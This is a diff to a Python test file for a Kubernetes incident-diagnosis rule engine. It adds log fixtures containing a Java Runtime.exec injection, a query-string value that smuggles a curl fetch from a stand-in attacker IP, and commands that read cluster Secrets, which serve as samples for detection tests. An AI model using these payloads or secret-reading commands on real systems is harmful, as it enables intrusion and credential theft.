@@ -5,8 +5,9 @@ from __future__ import annotations
 from typing import Any
 
 from tests.diagnosis.rules.cases import DoesNotHold, Holds, no
-from tests.diagnosis.rules.scenes import SHOP, logs, shop
-from tests.diagnosis.rules.tiny import Obj, at, container, snapshot, thing, workload
+from tests.diagnosis.rules.scenes import SHOP, WELL, alert, logs, shop
+from tests.diagnosis.rules.tiny import DAY, Obj, at, container, log, pod, snapshot, thing, workload
+from tuheg_ir.diagnosis.model import Snapshot
 
 FOREIGN = (
     " * POOL #1      stratum+tcp://pool.example:3333 algo auto",
@@ -32,7 +33,38 @@ def lone(**spec: Any) -> Obj:
     return thing("Pod", "helper", age=1200, spec=of) | {"status": {"phase": "Running", "containerStatuses": [status]}}
 
 
+INJECTED = (
+    '203.0.113.9 - - "GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/ HTTP/1.1" 302 -',
+    '203.0.113.9 - - "POST /ping?host=10.0.0.1%3Bcurl+http%3A%2F%2F203.0.113.9%2Fk HTTP/1.1" 200 81',
+)
+READS = "I0304 11:58:01.2 41 round_trippers.go:463] GET https://10.96.0.1:443/api/v1/namespaces/shop/secrets?limit=500"
+CURLS = "+ curl -sk -H @/tmp/h https://kubernetes.default.svc/api/v1/secrets"
+GREW = alert("UnusualEgress", pod=pod("shop"))
+
+
+def token(of: str, age: float) -> Obj:
+    """Return a Secret with a lasting token of an account."""
+    made = thing("Secret", "metrics-sync", age=age, type="kubernetes.io/service-account-token")
+    made["metadata"]["annotations"] = {"kubernetes.io/service-account.name": of}
+    return made
+
+
+def taken(*lines: str, made: float = 60, name: str = "shop", **more: Any) -> Snapshot:
+    """Return a workload with an account of its own, a fresh token of it, and what the log of its first pod tells."""
+    objects = workload(name, spec={"serviceAccountName": name}, **more)
+    return snapshot(objects, token(name, made), logs=[log(pod(name), *lines)], alerts=[GREW], figures=[WELL])
+
+
 HOLDS = [
+    *(
+        Holds(
+            f"a command came in by a request, and Secrets are read then: {reads}",
+            taken(request, reads),
+            (SHOP, "security_incident", "isolate_workload"),
+            excludes=no("restart_workload", "rollback_workload", at=SHOP),
+        )
+        for request, reads in zip(INJECTED, (READS, CURLS), strict=True)
+    ),
     *(
         Holds(
             f"foreign programs: {line}",
@@ -66,6 +98,10 @@ DOES_NOT_HOLD = [
         DoesNotHold(f"an attempt, or nothing: {line}", snapshot(shop(), logs=logs("shop", line, times=1)))
         for line in ATTEMPTS
     ),
+    DoesNotHold("somebody sends commands, and more goes out than ever", taken(INJECTED[0])),
+    DoesNotHold("commands were sent, and turned away", taken(INJECTED[0].replace("302", "404"))),
+    DoesNotHold("an agent made for it reads Secrets", taken(READS, name="secret-operator")),
+    DoesNotHold("Secrets are read where nobody came in, and a token is old", taken(READS, made=9 * DAY)),
     DoesNotHold("a pod of nobody without rights is somebody's test", snapshot(shop(), lone())),
     DoesNotHold(
         "a release from a new registry alone is a move",
